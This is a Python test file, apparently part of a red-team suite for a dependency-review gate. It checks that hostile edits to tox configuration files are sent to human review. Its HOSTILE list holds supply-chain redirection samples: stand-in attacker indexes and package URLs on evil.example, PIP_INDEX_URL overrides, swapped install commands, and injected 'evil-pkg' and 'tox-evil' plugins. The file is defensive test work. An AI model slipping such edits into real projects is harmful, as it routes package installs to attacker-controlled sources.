"""Red team 30: tox's configuration (tox.ini, tox.toml, pyproject's [tool.tox]) names what tox installs.

tox installs its `requires` (plugins, tox itself) into its own environment before anything else, then each
environment's `deps`, with the installer its `install_command`, `set_env` (`PIP_INDEX_URL`), `pip_pre` and the
options of a `deps` line (`-i URL`) choose. tox.ini and tox.toml are `other` (tool settings, a label decision kept),
and no delta read them: `gate --enable deps` allowed (exit 0) a new plugin, a new or swapped dependency, a new index,
from a patch and, where no CI step runs tox, with `--tree` too. Now a reader (gatekeeper/deps/toxconfig.py) reads
them: a new entry, a swapped source, a moved installer setting is reviewed; an in-level bump of a pinned dependency
still queues with `--tree` (from a patch a modified tox.ini/tox.toml is a `partial` problem: reviewed). pyproject's
[tool.tox] is the residue of a deps file (reviewed alone and beside a bump), as it was. A setup.cfg holding only tool
settings is `other` (setupcfg.py), and its `[tox:tox]`/`[testenv]` sections counted as tool settings: a new `deps` or
`requires` entry there was allowed with `--tree`; now such a section naming what tox installs keeps setup.cfg `deps`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import Case, committed, gated
from tables import each_case
from test_deps_gate import unreviewed

SHA = "b4ffde65f46336ab88eb53be808477a3936bae11"
EVIL = "https://evil.example/simple"
INI = """[tox]
requires = tox>=4.2
env_list = py, lint

[testenv]
deps =
    pytest==8.0.0
    coverage==7.4.0
commands = pytest {{posargs}}
{extra}
[testenv:lint]
deps = ruff==0.4.0
commands = ruff check .
"""
BASE_INI = INI.format(extra="")
TOML = """requires = ["tox>=4.21"]
env_list = ["py", "lint"]

[env_run_base]
deps = ["pytest==8.0.0"]
commands = [["pytest"]]
{extra}
[env.lint]
deps = ["ruff==0.4.0"]
commands = [["ruff", "check", "."]]
"""
BASE_TOML = TOML.format(extra="")
PYPROJECT = """[project]
name = "app"
version = "1.0"
dependencies = ["requests=={requests}"]

[tool.tox]
requires = ["tox>=4.21"{plugin}]
"""

HOSTILE: list[tuple[str, str, str]] = [
    ("tox.ini", BASE_INI, BASE_INI.replace("requires = tox>=4.2", "requires =\n    tox>=4.2\n    tox-evil==1.0")),
    ("tox.ini", BASE_INI, BASE_INI.replace("    coverage==7.4.0\n", "    coverage==7.4.0\n    evil-pkg==1.0\n")),
    ("tox.ini", BASE_INI, BASE_INI.replace("    coverage==7.4.0\n", f"    coverage==7.4.0\n    -i {EVIL}\n")),
    ("tox.ini", BASE_INI, BASE_INI.replace("    coverage==7.4.0\n",
                                           f"    coverage==7.4.0\n    --extra-index-url {EVIL}\n")),
    ("tox.ini", BASE_INI,
     INI.format(extra=f"install_command = python -m pip install -i {EVIL} {{opts}} {{packages}}\n")),
    ("tox.ini", BASE_INI, INI.format(extra=f"setenv =\n    PIP_INDEX_URL={EVIL}\n")),
    ("tox.ini", BASE_INI, BASE_INI.replace("    pytest==8.0.0\n", "    pytest @ git+https://evil.example/pytest.git\n")),
    ("tox.ini", BASE_INI, BASE_INI.replace("    coverage==7.4.0\n", "    coverage==7.4.0\n    py312: evil-pkg\n")),
    ("tox.ini", BASE_INI, BASE_INI.replace("deps = ruff==0.4.0", "deps = ruff @ https://evil.example/ruff.whl")),
    ("tox.ini", BASE_INI, BASE_INI + "\n[testenv:new]\ndeps = evil-pkg\ncommands = python -c pass\n"),
    ("tox.ini", BASE_INI, INI.format(extra="pip_pre = true\n")),
    ("tox.ini", BASE_INI,
     BASE_INI.replace("    coverage==7.4.0\n", "    coverage==7.4.0\n    -r requirements-evil.txt\n")),
    ("tox.toml", BASE_TOML, BASE_TOML.replace('requires = ["tox>=4.21"]', 'requires = ["tox>=4.21", "tox-evil==1.0"]')),
    ("tox.toml", BASE_TOML, BASE_TOML.replace('deps = ["pytest==8.0.0"]', 'deps = ["pytest==8.0.0", "evil-pkg"]')),
    ("tox.toml", BASE_TOML, BASE_TOML.replace('deps = ["ruff==0.4.0"]', 'deps = ["ruff @ https://evil.example/r.whl"]')),
    ("tox.toml", BASE_TOML, TOML.format(extra=f'set_env = {{ PIP_INDEX_URL = "{EVIL}" }}\n')),
    ("tox.toml", BASE_TOML, TOML.format(extra=f'install_command = ["python", "-m", "pip", "install", "-i", "{EVIL}", '
                                              '"{packages}"]\n')),
    ("tox.toml", BASE_TOML, BASE_TOML + '\n[env.new]\ndeps = ["evil-pkg"]\n'),
    ("pyproject.toml", PYPROJECT.format(requests="2.31.0", plugin=""),
     PYPROJECT.format(requests="2.31.0", plugin=', "tox-evil==1.0"')),
    ("pyproject.toml", PYPROJECT.format(requests="2.31.0", plugin=""),
     PYPROJECT.format(requests="2.31.1", plugin=', "tox-evil==1.0"')),
]
SETUP_CFG = "[flake8]\nmax-line-length = 120\n\n[tox:tox]\nenvlist = py\n\n[testenv]\ndeps =\n    pytest==8.0.0\n"
HOSTILE += [
    ("setup.cfg", SETUP_CFG, SETUP_CFG + "    evil-pkg==1.0\n"),
    ("setup.cfg", SETUP_CFG, SETUP_CFG.replace("envlist = py\n", "envlist = py\nrequires = tox-evil\n")),
]
WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            f"      - uses: actions/checkout@{SHA}\n      - run: pip install tox && tox\n")


def test_the_variants_are_what_they_say() -> None:
    assert len(HOSTILE) == 22


@pytest.mark.parametrize("ci", [False, True], ids=["alone", "with-ci"])
def test_a_hostile_tox_edit_needs_a_human(tmp_path: Path, ci: bool) -> None:
    base: dict[str, str] = {".github/workflows/test.yml": WORKFLOW} if ci else {}
    head: dict[str, str] = {}
    paths: dict[str, set[str]] = {}
    for number, (path, old, new) in enumerate(HOSTILE):
        base[f"v{number}/{path}"] = old
        head[f"v{number}/{path}"] = new
        paths[f"#{number} {path}"] = {f"v{number}/{path}"}
    repo, first, second, patch, packet = committed(tmp_path, base, head)
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (3, "review"), (tree, decision["reasons"])
        assert not unreviewed(decision, paths), (tree, unreviewed(decision, paths))


@each_case("tree, number", [(tree, number) for tree in [False, True] for number in range(len(HOSTILE))])
def test_each_hostile_tox_edit_alone_is_reviewed(tmp_path: Path, number: int, tree: bool) -> None:
    path, old, new = HOSTILE[number]
    repo, first, second, patch, packet = committed(tmp_path, {path: old}, {path: new})
    code, decision = gated(Case(repo, first, second, patch, packet), tree)
    assert (code, decision["outcome"]) == (3, "review"), (number, tree, decision["reasons"])


@pytest.mark.parametrize(("path", "old", "new"), [
    ("tox.ini", BASE_INI, BASE_INI.replace("pytest==8.0.0", "pytest==8.0.1")),
    ("tox.ini", BASE_INI, BASE_INI.replace("commands = ruff check .", "commands = ruff check --fix .")),
    ("tox.toml", BASE_TOML, BASE_TOML.replace("ruff==0.4.0", "ruff==0.4.1")),
], ids=["ini-bump", "ini-commands", "toml-bump"])
def test_an_in_level_bump_or_a_commands_edit_still_queues_with_the_tree(tmp_path: Path, path: str, old: str,
                                                                        new: str) -> None:
    repo, first, second, patch, packet = committed(tmp_path, {path: old}, {path: new})
    code, decision = gated(Case(repo, first, second, patch, packet), True)
    assert (code, decision["outcome"]) == (0, "allow"), decision["reasons"]
